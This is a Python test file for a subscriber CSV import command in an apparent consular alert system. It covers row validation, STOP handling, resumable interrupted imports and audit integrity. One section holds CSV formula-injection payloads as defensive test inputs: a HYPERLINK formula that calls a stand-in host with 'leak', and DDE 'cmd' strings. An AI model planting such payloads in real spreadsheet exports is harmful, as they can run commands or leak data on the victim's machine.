"""`tocsin subscribers import`: good rows kept, every bad row named with its reason, an
unreadable file changes nothing, and a number that sent STOP is not subscribed again."""

from __future__ import annotations

import asyncio
import csv
from datetime import UTC, date, datetime, timedelta

import pytest
import sqlalchemy as sa

from alerts import phones
from alerts.cli import main
from alerts.schema import subscribers
from alerts.store import Store

NEXT_MONTH = (date.today() + timedelta(days=30)).isoformat()


def _phone_problem(typed: str) -> str:
    """The phone rule's own words for a number it refuses: the import passes them on."""
    with pytest.raises(phones.PhoneError) as refused:
        phones.normalize(typed)
    return str(refused.value)


ROWS = [
    # phone, language, country, city, trip_ends -> the reason it is refused, or None
    (["+905321234567", "az", "TR", "Istanbul", NEXT_MONTH], None),
    (["+995555123456", "ru", "Gürcüstan", "Tbilisi", ""], None),
    (["+33612345678", "FR", "франция", "", ""], None),
    (["+971501234567", "ar", "الإمارات", "Dubai", ""], None),
    (["+4915112345678", "xx", "DE", "", ""], "language must be one of"),
    (["12", "en", "TR", "", ""], _phone_problem("12")),
    (["+905321234568", "en", "Narnia", "", ""], "unknown country"),
    (["+905321234569", "en", "TR", "", "2020-01-01"], "already ended"),
    (["+905321234570", "en", "TR", "", "next week"], "must be a date such as 2026-12-31"),
    (["+905321234567", "en", "TR", "Ankara", ""], "same phone and country as line 2"),
    (["+905321234571", "en", "AZ", "", ""], "unknown country"),  # home is not abroad
    # What SQLite would store and PostgreSQL refuses, or what overflows later: refused on both.
    (["+905321234572", "en", "TR", "Ist\x00anbul", ""], "city holds the character U+0000"),
    (["+905321234573", "en", "TR", "Izmir\x1b[2J", ""], "city holds the character U+001B"),
    (["+905321234574", "en", "TR", "", "9999-12-31"], "between the years 2000 and 2100"),
    (["+905321234575", "en", "TR", "", "2099-01-01"], "days ahead"),
    (["+90 532 FLOWERS", "en", "TR", "", ""], _phone_problem("+90 532 FLOWERS")),
]


def _rows(url: str) -> list:
    async def read():
        store = Store(url)
        try:
            async with store.read() as conn:
                return (await conn.execute(sa.select(subscribers).order_by(subscribers.c.id))).all()
        finally:
            await store.close()
    return asyncio.run(read())


def _write(path, rows, header=("phone", "language", "country", "city", "trip_ends")):
    with path.open("w", newline="", encoding="utf-8") as f:
        out = csv.writer(f)
        out.writerow(header)
        out.writerows(rows)


@pytest.fixture
def env(db_url, tmp_path, monkeypatch):
    monkeypatch.setenv("TOCSIN_DATABASE_URL", db_url)
    monkeypatch.setenv("TOCSIN_VAR_DIR", str(tmp_path))
    for name in ("TWILIO_ACCOUNT_SID", "TWILIO_AUTH_TOKEN"):
        monkeypatch.delenv(name, raising=False)
    return db_url


def test_good_rows_are_kept_and_bad_ones_named(env, tmp_path, capsys):
    source = tmp_path / "registry.csv"
    _write(source, [row for row, _ in ROWS])
    assert main(["subscribers", "import", str(source)]) == 0
    out = capsys.readouterr().out
    assert f"{len(ROWS)} rows: 4 new, 0 updated, {len(ROWS) - 4} rejected" in out

    kept = _rows(env)
    assert [(r.phone, r.language, r.country, r.consent_source, r.kind) for r in kept] == [
        ("+905321234567", "az", "TR", "consular_import", "citizen_abroad"),
        ("+995555123456", "ru", "GE", "consular_import", "citizen_abroad"),
        ("+33612345678", "fr", "FR", "consular_import", "citizen_abroad"),
        ("+971501234567", "ar", "AE", "consular_import", "citizen_abroad"),
    ]
    assert kept[0].trip_ends.isoformat() == NEXT_MONTH and kept[0].city == "Istanbul"

    with (tmp_path / "registry.csv.rejected.csv").open() as f:
        rejected = {int(r["line"]): r for r in csv.DictReader(f)}
    expected = {line: reason for line, (_, reason) in enumerate(ROWS, start=2) if reason}
    assert set(rejected) == set(expected)
    for line, reason in expected.items():
        assert reason in rejected[line]["reason"], (line, rejected[line])
        assert "+4915112345678" not in rejected[line]["phone"]  # masked in the report too


@pytest.mark.parametrize("content, complaint", [
    (b"\xff\xfe\x00\x00garbage", "not UTF-8"),
    (b"name;telefon\nAli;+905321234567\n", "missing: phone, language, country"),
])
def test_an_unreadable_file_imports_nothing(env, tmp_path, capsys, content, complaint):
    source = tmp_path / "broken.csv"
    source.write_bytes(content)
    assert main(["subscribers", "import", str(source)]) == 2
    err = capsys.readouterr().err
    assert complaint in err and "Nothing was imported" in err
    assert _rows(env) == []


def test_a_new_import_refreshes_but_never_resubscribes_a_stopped_number(env, tmp_path, capsys):
    first, second = tmp_path / "first.csv", tmp_path / "second.csv"
    _write(first, [["+905321234567", "ru", "TR", "Istanbul", ""], ["+995555123456", "en", "GE", "", ""]])
    assert main(["subscribers", "import", str(first)]) == 0

    async def stop():
        store = Store(env)
        try:
            async with store.write() as conn:
                await conn.execute(subscribers.update().where(subscribers.c.phone == "+995555123456")
                                   .values(status="stopped", updated_at=datetime.now(UTC)))
        finally:
            await store.close()
    asyncio.run(stop())

    # STOP ends every area of a number: registering it for another country does not revive it.
    _write(second, [["+905321234567", "az", "TR", "Izmir", NEXT_MONTH], ["+995555123456", "en", "GE", "", ""],
                    ["+995555123456", "en", "TR", "", ""]])
    capsys.readouterr()
    assert main(["subscribers", "import", str(second)]) == 0
    assert "3 rows: 0 new, 1 updated, 2 rejected" in capsys.readouterr().out
    turkey, georgia = _rows(env)
    assert (turkey.city, turkey.trip_ends.isoformat(), turkey.language) == ("Izmir", NEXT_MONTH, "ru")
    assert georgia.status == "stopped"


def test_the_guide_s_example_file_imports_cleanly(env, tmp_path, capsys):
    import re
    from pathlib import Path

    guide = (Path(__file__).parents[2] / "docs" / "consular.md").read_text()
    [example] = re.findall(r"```csv\n(.*?)```", guide, re.S)
    source = tmp_path / "registry.csv"
    # The guide's dates are examples; today's calendar must not fail the guide.
    source.write_text(re.sub(r"\d{4}-\d{2}-\d{2}", NEXT_MONTH, example), encoding="utf-8")
    assert main(["subscribers", "import", str(source)]) == 0
    assert "2 rows: 2 new, 0 updated, 0 rejected" in capsys.readouterr().out


# ---- the rejects report is text a spreadsheet shows, never formulas it runs ----

FORMULAS = ['=HYPERLINK("http://203.0.113.9/?leak","click")', "@SUM(1+1)*cmd|' /C calc'!A0",
            "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0"]  # (the mask strips a leading tab or CR)


def test_rejected_cells_that_a_spreadsheet_would_run_are_written_as_text(env, tmp_path, capsys):
    source = tmp_path / "registry.csv"
    _write(source, [[typed, "en", "TR", "", ""] for typed in FORMULAS] + [["+4915112345678", "xx", "DE", "", ""]])
    assert main(["subscribers", "import", str(source)]) == 0
    with (tmp_path / "registry.csv.rejected.csv").open(newline="", encoding="utf-8") as f:
        cells = [cell for row in csv.reader(f) for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "@", "\t", "\r") or (c[:1] in "+-" and "cmd" in c)], cells
    masked = [c for c in cells if c.startswith("'")]
    assert len(masked) == len(FORMULAS)  # each made inert, and kept readable after the apostrophe
    assert "+49151***5678" in cells  # a masked phone number runs nothing: left as it is


@pytest.mark.parametrize("value, written", [
    ("=1+1", "'=1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
    ("-1+cmd|x!A0", "'-1+cmd|x!A0"), ("\t=1", "'\t=1"), ("\r=1", "'\r=1"),
    ("+99450***4567", "+99450***4567"), ("+994501234567", "+994501234567"), ("-12.5", "-12.5"),
    ("plain text", "plain text"), ("", ""), (42, 42), (None, None),
])
def test_the_shared_csv_cell_rule(value, written):
    from alerts.csvsafe import cell

    assert cell(value) == written


# ---- an import stopped by a signal: whole batches, audited, resumable ----

# Small batches for the run that is stopped, so it is surely stopped mid-way; the resumed run
# uses the default size: resuming goes by line, not by batch number.
GOOD_ROWS = 5_000
BATCH_SIZE = 25


async def _count_and_trail(url: str) -> tuple[int, list]:
    from alerts.schema import audit_log

    store = Store(url)
    try:
        async with store.read() as conn:
            count = await conn.scalar(sa.select(sa.func.count()).select_from(subscribers))
            trail = (await conn.execute(sa.select(audit_log.c.action, audit_log.c.details)
                                        .where(audit_log.c.action.like("subscribers.import%"))
                                        .order_by(audit_log.c.id))).all()
        return count, trail
    finally:
        await store.close()


def _cli_env(db_url: str, tmp_path) -> dict[str, str]:
    import os

    env = {k: v for k, v in os.environ.items() if not k.startswith(("TWILIO_", "TOCSIN_"))}
    return {**env, "TOCSIN_DATABASE_URL": db_url, "TOCSIN_VAR_DIR": str(tmp_path / "var")}


async def _run_import(db_url, tmp_path, source, stop_with=None, batch_size=BATCH_SIZE):
    """`tocsin subscribers import` as a real process; when `stop_with` is given, that signal
    is sent as soon as the first batch is in the database (the row count says so)."""
    import sys

    process = await asyncio.create_subprocess_exec(
        sys.executable, "-m", "alerts.cli", "subscribers", "import", str(source), "--batch-size", str(batch_size),
        env=_cli_env(db_url, tmp_path), stdout=asyncio.subprocess.PIPE, stderr=asyncio.subprocess.PIPE)
    communicate = asyncio.ensure_future(process.communicate())
    if stop_with is not None:
        store = Store(db_url)
        try:
            while not communicate.done():
                try:
                    async with store.read() as conn:
                        written = await conn.scalar(sa.select(sa.func.count()).select_from(subscribers))
                except sa.exc.DBAPIError:  # the process is still creating the schema
                    written = 0
                if written:
                    process.send_signal(stop_with)
                    break
                await asyncio.sleep(0.01)
        finally:
            await store.close()
    out, err = await asyncio.wait_for(communicate, timeout=300)
    return process.returncode, out.decode(), err.decode()


@pytest.mark.parametrize("stop_with", ["SIGINT", "SIGTERM"])
async def test_an_interrupted_import_keeps_whole_audited_batches_and_resumes(db_url, tmp_path, stop_with):
    import signal

    signum = getattr(signal, stop_with)
    source = tmp_path / "registry.csv"
    _write(source, [[f"+90532{n:07d}", "en", "TR", "Ankara", ""] for n in range(GOOD_ROWS)])

    status, out, err = await _run_import(db_url, tmp_path, source, stop_with=signum)
    assert status == 128 + signum, (status, out, err)
    assert f"interrupted by {stop_with}" in err and f"tocsin subscribers import {source}" in err, err
    assert "Traceback" not in err
    count, trail = await _count_and_trail(db_url)
    actions = [row.action for row in trail]
    batches = [row.details for row in trail if row.action == "subscribers.import.batch"]
    # Whole batches only, each audited in its own transaction, and the stop itself recorded.
    assert 0 < count < GOOD_ROWS and count % BATCH_SIZE == 0, count
    assert sum(b["created"] for b in batches) == count
    assert actions == ["subscribers.import.start", *["subscribers.import.batch"] * len(batches),
                       "subscribers.import.interrupted"], actions
    last_line = batches[-1]["last_line"]
    assert f"lines up to {last_line} are written ({count} new, 0 updated)" in err, err

    # The same command again resumes after the last line written: nothing is written twice.
    status, out, err = await _run_import(db_url, tmp_path, source, batch_size=2000)
    assert status == 0, (status, out, err)
    assert f"resumed an interrupted import of this file after line {last_line}" in out, out
    assert f"{GOOD_ROWS} rows: {GOOD_ROWS} new, 0 updated, 0 rejected" in out, out
    count, trail = await _count_and_trail(db_url)
    assert count == GOOD_ROWS
    actions = [row.action for row in trail]
    assert actions[-1] == "subscribers.import" and actions.count("subscribers.import.resume") == 1
    resumed = [row.details for row in trail][actions.index("subscribers.import.resume") + 1:-1]
    assert resumed[0]["first_line"] == last_line + 1  # skipped, not rewritten
    assert _audit_intact(db_url, tmp_path)


def _audit_intact(db_url: str, tmp_path) -> bool:
    """`tocsin audit verify` on the database: the batches' rows keep the hash chain whole."""
    import subprocess
    import sys

    done = subprocess.run([sys.executable, "-m", "alerts.cli", "audit", "verify"], capture_output=True, text=True,
                          env=_cli_env(db_url, tmp_path), timeout=120)
    return done.returncode == 0 and "audit log intact" in done.stdout
